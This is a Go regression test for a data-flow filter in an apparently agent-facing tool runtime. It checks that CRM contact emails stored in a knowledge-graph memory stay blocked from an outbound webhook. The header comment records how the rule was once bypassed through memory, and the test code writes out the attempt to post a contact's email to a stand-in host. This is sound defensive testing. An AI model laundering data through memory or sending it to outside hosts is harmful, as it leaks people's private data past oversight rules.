package security

import (
	"os"
	"path/filepath"
	"testing"
)

// TestGraphKeepsProvenance (issue 19, a1): a crm value written into the
// knowledge graph (an entity's description and properties, a relation's
// properties) and read back in a new session reached http.post_webhook
// despite the rule crm.* → http.*: entities and relations kept no
// provenance. They keep it now, and a read brings it back into the run.
func TestGraphKeepsProvenance(t *testing.T) {
	t.Parallel()
	cfg := filepath.Join(t.TempDir(), "config.toml")
	os.WriteFile(cfg, []byte("[[filter.rules]]\nfrom = \"crm.*\"\nto = \"http.*\"\n"), 0o600)
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	s := start(t, "--config", cfg, "--catalog", catalog)
	const get = `const c = await crm.get_contact({id: "c_8812"}); const v = c.email;`
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); "SENT"`
	}
	first := s.open(t, aliceToken)
	if rec := first.run(get + `
await memory.entity_upsert({name: "contact-x", type: "person", description: "mail " + v, properties: {mail: v}});
await memory.relate({from: "contact-x", to: "team", type: "member", properties: {mail: v}});
1`); rec.Status != "ok" {
		t.Fatalf("store: %.600s", rec.raw)
	}
	later := s.open(t, aliceToken)
	for _, tc := range []struct{ name, code string }{
		{"entity properties", `const r = await memory.neighbors({entity: "team"}); ` + post("r.neighbors[0].entity.properties.mail")},
		{"entity description", `const r = await memory.neighbors({entity: "team"}); ` + post("r.neighbors[0].entity.description")},
		{"relation properties", `const r = await memory.neighbors({entity: "team"}); ` + post("JSON.stringify(r.relations)")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if rec := later.run(tc.code); rec.Status == "ok" {
				t.Errorf("laundered through %s: %.400s", tc.name, rec.raw)
			}
		})
	}
	// What is not crm's still flows.
	if rec := later.run(`await memory.entity_upsert({name: "plain", description: "no crm here"}); const r = await memory.neighbors({entity: "plain"}); ` + post("r.entity.description")); string(rec.Result) != `"SENT"` {
		t.Errorf("a value of no source was stopped: %.400s", rec.raw)
	}
}
